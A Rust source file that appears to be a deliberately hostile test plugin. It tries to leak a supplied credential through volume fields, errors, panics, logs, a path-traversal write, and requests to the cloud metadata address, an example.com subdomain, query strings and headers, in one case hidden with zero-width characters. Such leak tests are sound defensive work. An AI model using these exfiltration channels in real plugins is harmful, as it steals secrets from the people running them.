//! Carries a credential out, by every way that an answer has. How it came to know it is not the point here: the
//! suite tells it, and has it send one request first, so that the host knows what to look for.

use kato_plugin_sdk::{
    files::{Files as _, Granted},
    identity::Status,
    log,
    types::{Beneath, Connection, Error, Pair, Pending, Volume},
    volumes::Created,
};

use crate::{request, value};

pub fn create(configuration: &[Pair], mut volume: Volume) -> Result<Created, Error> {
    let leak = value(configuration, "leak").to_owned();
    request::send(configuration, value(configuration, "url"))?;
    match value(configuration, "argument") {
        "handle" => volume.handle = format!("vol-{leak}"),
        "long-handle" => volume.handle = format!("vol-{leak}{}", "x".repeat(100)),
        "token" => volume.token = Some(leak),
        "mark" => volume.mark = leak,
        "topology" => volume.topology = vec![("zone".into(), leak)],
        "parameter" => volume.parameters = Some(vec![(leak, "x".into())]),
        "connection" => {
            volume.connection = Some(Connection::Directory(Beneath { grant: "data".into(), path: leak }))
        }
        "grant" => volume.connection = Some(Connection::File(Beneath { grant: leak, path: "x".into() })),
        "resume" => return Ok(pending(leak.into_bytes(), String::new())),
        "note" => return Ok(pending(Vec::new(), format!("waiting for {leak}"))),
        "message" => return Err(Error::internal(format!("it is {leak}"))),
        "detail" => return Err(Error::internal("look into the log").detail(leak)),
        "hidden" => {
            let hidden: String = leak.chars().flat_map(|letter| [letter, '\u{200b}']).collect();
            return Err(Error::internal(hidden));
        }
        "cut" => return Err(Error::internal(format!("{}{leak}", "x".repeat(990)))),
        "panic" => panic!("it is {leak}"),
        "log" => {
            log::warn(format!("it is {leak}"));
            log::warn(format!("{}{leak}", "x".repeat(490)));
        }
        "path" => Granted("data").write(&format!("../{leak}"), b"x")?,
        "name" => Granted(leak.leak()).write("x", b"x")?,
        "url" => _ = request::send(&[], &format!("GET http://169.254.169.254/{leak}"))?,
        "query" => _ = request::send(&[], &format!("{}/?x={leak}", value(configuration, "url")))?,
        "host" => _ = request::send(&[], &format!("GET http://{leak}.example.com/"))?,
        "header" => {
            let header = [("header".to_owned(), format!("x-more:{leak}"))];
            request::send(&header, value(configuration, "url"))?;
        }
        _ => {}
    }
    Ok(Created::Done(volume))
}

/// What `check` answers.
pub fn check(configuration: &[Pair]) -> Result<Status, Error> {
    let (mut fingerprint, mut note) = ("the hostile one".to_owned(), String::new());
    if value(configuration, "behave") == "leak" {
        match value(configuration, "argument") {
            "fingerprint" => fingerprint = value(configuration, "leak").into(),
            _ => note = value(configuration, "leak").into(),
        }
    }
    Ok(Status { fingerprint, note })
}

fn pending(resume: Vec<u8>, note: String) -> Created {
    Created::Pending(Pending { resume, retry_after_ms: 1000, note })
}
